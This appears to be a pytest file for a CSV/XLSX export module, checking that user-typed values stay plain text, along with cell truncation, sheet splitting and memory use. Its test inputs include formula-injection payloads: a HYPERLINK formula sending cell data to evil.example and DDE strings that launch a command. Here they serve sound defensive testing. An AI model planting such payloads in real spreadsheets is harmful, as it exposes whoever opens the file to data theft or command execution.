"""R45: whatever people typed stays text in a file, whoever opens it; large files need little memory."""

from __future__ import annotations

import csv
import io
import itertools
import os
import tempfile
import tracemalloc
import zipfile
from dataclasses import replace

import pytest
import python_calamine

from yss import export_files
from yss.export_files import Sheet, csv_file, write_xlsx, xlsx

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-",
]
TEXTS = [
    "王五",
    "多行\n备注\r\n第三行",
    '他说"好",然后;走了',
    "'引号开头",
    "a,b;c\td",
    "\u202e逆序\u202c",
    "😷🏫",
    "𬱖䶮",
    "_x0041_",
    "<b>&amp;</b>",
    "1.10101E+17",
    "2020-03-21",
    "3/4",
    "TRUE",
    "#REF!",
    "",
]
NUMBERS = ["440106200005170039", "001", "000123", "456742973300189703", "44010620000517003X"]
EVERY = [*FORMULAS, *TEXTS, *NUMBERS, "nul\x00里\x0b面", "孤立\ud800代理"]


def clean(text):
    """Without what no file can hold."""
    return text.translate(dict.fromkeys((0, 0x0B, 0xD800)))


def from_csv(rows, **options):
    data = b"".join(csv_file(Sheet("t", (["标题"],), rows), **options))
    assert data.startswith(export_files.BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]


def from_xlsx(sheets, **options):
    """A small one and one of any size say the same."""
    large, sheets = io.BytesIO(), [replace(sheet, rows=list(sheet.rows)) for sheet in sheets]
    with tempfile.TemporaryDirectory() as folder:
        write_xlsx(large, sheets, folder=folder, **options)
    data = large.getvalue()
    if not options:
        assert rows_of(xlsx(sheets)) == rows_of(data)
    return data, rows_of(data)


def rows_of(data):
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: book.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in book.sheet_names}


@pytest.mark.parametrize("text", EVERY)
def test_R45_a_csv_gives_back_what_was_typed_as_text(text):
    ((cell, after),) = from_csv([[text, "后"]])
    assert after == "后"
    assert cell.removeprefix("'") == clean(text).removeprefix("'")
    lead = clean(cell).lstrip("".join(map(chr, (0x20, 0x09, 0x0D, 0x0A, 0x3000, 0x200B, 0x202E, 0xFEFF))))[:1]
    assert lead not in tuple("=+-@＝＋－＠")
    assert not (cell.isdigit() and (len(cell) > 11 or cell.startswith("0"))), "a spreadsheet would round it"


@pytest.mark.parametrize("text", FORMULAS)
def test_R45_formulas_are_marked_for_machines_too_but_numbers_are_left(text):
    assert from_csv([[text]], for_people=False) == [["'" + clean(text)]]
    assert from_csv([["440106200005170039"]], for_people=False) == [["440106200005170039"]]


def test_R45_an_xlsx_holds_nothing_but_text():
    data, sheets = from_xlsx([Sheet("t", (["标题", "乙"],), [[text, "后"] for text in EVERY])])
    rows = sheets["t"][1:]
    assert [row[0] for row in rows] == [clean(text) for text in EVERY]
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        inside = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in inside
    assert "<f " not in inside
    assert "<v>" not in inside or 't="s"' in inside
    assert not [name for name in parts.namelist() if "external" in name or "hyperlink" in name]


def test_R45_what_is_too_long_for_a_cell_is_cut_between_characters():
    long, wide = "字" * 40_000, "😷" * 20_000
    _, sheets = from_xlsx([Sheet("t", (["标题"],), [[long], [wide], ["后"]])])
    first, second, after = (row[0] for row in sheets["t"][1:])
    assert (first, after) == ("字" * 32_767, "后")
    assert second == "😷" * 16_383
    assert from_csv([[long]]) == [[long]], "a CSV has no such end"


def test_R45_what_is_too_long_for_a_sheet_goes_on_in_the_next():
    rows = [[str(number)] for number in range(25)]
    _, sheets = from_xlsx([Sheet("报表", (["水印"], ["标题"], ["name"]), iter(rows))], sheet_rows=13)
    assert list(sheets) == ["报表", "报表 (2)", "报表 (3)"]
    assert [row for sheet in sheets.values() for row in sheet[3:]] == rows
    assert {tuple(sheet[1]) for sheet in sheets.values()} == {("标题",)}


def test_R85_a_sheet_is_named_in_whatever_language_within_what_workbooks_take():
    said = "'Answers' [of members] and/or staff: all?"
    _, (name,) = from_xlsx([Sheet(said, (["heading"],), [])])
    assert name == "Answers'  of members  an"


def test_R45_an_empty_table_is_a_file_with_headings():
    _, sheets = from_xlsx([Sheet("空", (["标题"],), [])])
    assert sheets == {"空": [["标题"]]}
    assert from_csv([]) == []


def test_R45_nothing_of_a_file_stays_behind(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    assert xlsx([Sheet("t", (["标题"],), [["甲"]])])
    with pytest.raises(ZeroDivisionError):
        xlsx([Sheet("t", (["标题"],), (["乙"] if number else 1 / 0 for number in (1, 0)))])
    assert list(tmp_path.iterdir()) == []


def many(count):
    words = ("软件工程-2019级-1班", "2020-03-21", "正常", "否", "广东省广州市")
    return ([str(10**17 + number), *itertools.chain(words, words, words)] for number in range(count))


def peak(work) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(("form", "rows"), [("csv", 1_000), ("xlsx", 400)])
def test_R45_memory_is_flat(form, rows):
    """Were rows kept, ten and five times as many would take more than twice the memory; a month of a large school is
    measured by `benchmarks/exports.py`.
    """

    def write(count):
        sheet = Sheet("t", (["标题"],), many(count))
        if form == "csv":
            return sum(map(len, csv_file(sheet)))
        with tempfile.TemporaryDirectory() as folder, open(os.devnull, "wb") as nowhere:
            write_xlsx(nowhere, [sheet], folder=folder)
            return None

    write(100)
    more = 10 * rows if form == "csv" else 5 * rows
    few, lots = (peak(lambda count=count: write(count)) for count in (rows, more))
    assert lots < 2 * few
